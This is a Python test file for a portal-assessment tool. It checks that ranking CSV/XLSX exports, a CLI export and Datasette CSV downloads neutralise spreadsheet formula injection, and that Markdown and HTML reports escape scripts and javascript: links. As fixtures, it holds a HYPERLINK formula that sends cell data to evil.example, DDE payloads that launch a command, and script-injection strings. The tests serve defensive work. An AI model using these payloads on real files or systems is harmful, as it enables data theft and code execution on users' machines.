"""A name that a portal or a target file gives — `=HYPERLINK(...)`, `@SUM`,
`+cmd`, a leading tab — never becomes a live formula: not in the ranking CSV
or XLSX, not in `export --format csv`, not in Datasette's CSV download through
a real `portalcheck serve`. Markdown and per-target report files stay text
and one file per id."""
from __future__ import annotations

import csv
import io
import os
import socket
import subprocess
import sys
import time
import urllib.request

from loopback import ROOT, run_cli
from openpyxl import load_workbook
from security.builders import builders as b

from results.spreadsheet import FORMULA_STARTS, neutralise
from scoring import load_methodology, score_run
from scoring.reports import write_reports
from scoring.tables import slug

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Sở A")', "@SUM(1+1)*cmd|' /C calc'!A0", "+84 Sở B",
           "-2+3+cmd|' /C calc'!A0", "\tSở C", "\rSở D", "<script>alert('md')</script> [x](javascript:alert(1))"]


def hostile_evidence():
    targets = [b.target(f"t{i}", name=name, group="=Nhóm" if i % 2 else "Sở, ban, ngành tỉnh")
               for i, name in enumerate(HOSTILE)]
    targets.append(b.target("so/tc", name="Sở Tài chính")), targets.append(b.target("so-tc", name="Sở TC khác"))
    targets[0]["services_portal_url"] = "javascript:alert(1)"   # a link a portal could hand over
    observations = [o for t in targets for o in b.perfect_observations(t["id"])]
    services = [{**b.svc("t0", 1), "name": "=cmd|' /C calc'!A0", "code": "@1.001"}]
    return b.evidence(targets, observations, services)


def dangerous(cell) -> bool:
    return isinstance(cell, str) and cell.startswith(FORMULA_STARTS) and neutralise(cell) != cell


def test_the_rule():
    assert neutralise("=1+1") == "'=1+1" and neutralise("\tx") == "'\tx" and neutralise("@x") == "'@x"
    assert neutralise("-0.5") == "-0.5" and neutralise("+3") == "+3" and neutralise(-2) == -2
    assert neutralise("Sở A") == "Sở A" and neutralise("") == "" and neutralise(None) is None


def test_ranking_csv_xlsx_and_markdown(tmp_path):
    ev = hostile_evidence()
    scores = score_run(ev, load_methodology("nd42-2025"))
    written = write_reports(ev, scores, tmp_path, lang="en")
    rows = list(csv.reader(io.StringIO((tmp_path / "rankings.csv").read_text(encoding="utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if dangerous(c)]
    assert "'" + HOSTILE[0] in cells and "'\tSở C" in cells and "'=Nhóm" in cells
    workbook = load_workbook(tmp_path / "rankings.xlsx")
    seen = []
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                seen.append(cell.value)
    assert "'" + HOSTILE[1] in seen and not [v for v in seen if dangerous(v)]
    assert any(isinstance(v, (int, float)) and not isinstance(v, bool) for v in seen)   # numbers stay numbers
    markdown = (tmp_path / "rankings.md").read_text(encoding="utf-8")
    assert "<script" not in markdown and "&lt;script&gt;" in markdown
    assert "[x](javascript" not in markdown and "\\[x\\](javascript" in markdown   # text, not a link
    page = (tmp_path / "targets" / f"{slug('t0')}.html").read_text(encoding="utf-8")
    assert 'href="javascript' not in page and 'href="#"' in page   # a javascript: URL is no link
    pages = sorted(p.name for p in written if p.parent.name == "targets")
    assert len(pages) == len(ev["targets"]) == len(set(pages))   # so/tc and so-tc: two files


def test_export_csv_through_the_cli(tmp_path):
    db, run_id = b.store_evidence(tmp_path / "r.db", hostile_evidence())
    db.conn.close()
    result = run_cli("export", "--db", str(tmp_path / "r.db"), "--format", "csv")
    assert result.returncode == 0, result.stderr
    cells = [c for row in csv.reader(io.StringIO(result.stdout)) for c in row]
    assert "'" + HOSTILE[2] in cells and not [c for c in cells if dangerous(c)]


def test_datasette_csv_download_through_portalcheck_serve(tmp_path):
    db_path = tmp_path / "portalcheck.db"
    db, run_id = b.store_evidence(db_path, hostile_evidence())
    db.conn.close()
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen([sys.executable, "-m", "crawler", "serve", "--db", str(db_path), "--port", str(port)],
                            cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        base = f"http://127.0.0.1:{port}/portalcheck"
        deadline = time.monotonic() + 30
        while True:
            try:
                urllib.request.urlopen(base, timeout=2).read()
                break
            except OSError:
                assert time.monotonic() < deadline and proc.poll() is None, "serve did not start"
                time.sleep(0.2)
        downloads = {
            "table": f"{base}/run_targets.csv",
            "streamed": f"{base}/services.csv?_stream=on&_dl=1",
            "query": f"{base}.csv?sql=select+name,+group_name,+'=2%2B5'+as+f,+-1.5+as+n+from+run_targets",
        }
        for kind, url in downloads.items():
            text = urllib.request.urlopen(url, timeout=10).read().decode("utf-8")
            cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
            assert len(cells) > 5, (kind, text[:300])
            assert not [c for c in cells if dangerous(c)], (kind, [c for c in cells if dangerous(c)])
            if kind == "table":
                assert "'" + HOSTILE[0] in cells and "'\rSở D" in cells, kind
        query = urllib.request.urlopen(downloads["query"], timeout=10).read().decode("utf-8")
        assert "'=2+5" in query and "-1.5" in query and "'-1.5" not in query
        services = urllib.request.urlopen(downloads["streamed"], timeout=10).read().decode("utf-8")
        assert "'=cmd|' /C calc'!A0" in services and "'@1.001" in services
        # pages that are not CSV pass untouched
        page = urllib.request.urlopen(f"{base}/run_targets", timeout=10).read().decode("utf-8")
        assert "<html" in page.lower() and "'=HYPERLINK" not in page
    finally:
        proc.terminate()
        proc.wait(timeout=15)
